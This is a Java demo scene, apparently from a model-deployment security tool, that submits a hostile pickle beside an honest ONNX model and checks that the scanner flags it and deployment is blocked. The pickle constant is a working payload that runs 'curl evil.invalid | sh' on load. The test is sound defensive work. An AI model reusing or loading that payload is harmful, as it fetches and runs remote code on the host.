package dev.weir.local.demo;

import dev.weir.events.DeploymentBlocked;
import dev.weir.events.Finding;
import dev.weir.events.GateOutcome;
import dev.weir.events.GateResult;
import dev.weir.events.ScanCompleted;
import dev.weir.events.ScanVerdict;
import dev.weir.events.TrainingCompleted;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Collectors;

/** Somebody submits a pickle that would run a command when it is loaded. */
final class HostileModelScene implements Scene {

    /** Protocol 0: the global {@code posix.system}, a string, a tuple of it, and the call. */
    private static final byte[] PICKLE =
            "cposix\nsystem\n(S'curl evil.invalid | sh'\ntR.".getBytes(StandardCharsets.US_ASCII);

    private final Journey honest;

    /**
     * Hides the pickle beside an honest model.
     *
     * @param honest a version whose file is copied
     */
    HostileModelScene(Journey honest) {
        this.honest = honest;
    }

    @Override
    public void play(Stage stage) throws SceneFailure, IOException, InterruptedException {
        stage.chapter("A hostile model is submitted");
        byte[] onnx = ModelFile.of(honest).withDescription("a gift");
        Submission submission = new Submission("gift-horse", Map.of("model.onnx", onnx, "preprocessing.pkl", PICKLE));
        TrainingCompleted run =
                submission.deposit(stage.mesh().folder(), stage.clock().instant());
        stage.tell(
                "Somebody submits gift-horse: a model, and a pickle that would run a shell command when it is loaded");
        Heard<TrainingCompleted> training = stage.hear(
                Steps.training(stage.speaker().say("training.completed", run.getModel(), run)),
                event -> "run %s".formatted(event.getRunId()));
        stage.hear(Steps.scanned(training, ScanVerdict.MALICIOUS), HostileModelScene::found);
        stage.hear(Steps.blocked(training), HostileModelScene::refused);
    }

    private static String found(ScanCompleted event) {
        return event.getVerdict() + ": "
                + event.getFindings().stream().map(Finding::getSummary).collect(Collectors.joining("; "));
    }

    private static String refused(DeploymentBlocked event) {
        return event.getModel() + " is not deployed: "
                + event.getGates().stream()
                        .filter(gate -> gate.getOutcome() == GateOutcome.REFUSED)
                        .map(GateResult::getReason)
                        .collect(Collectors.joining("; "));
    }
}
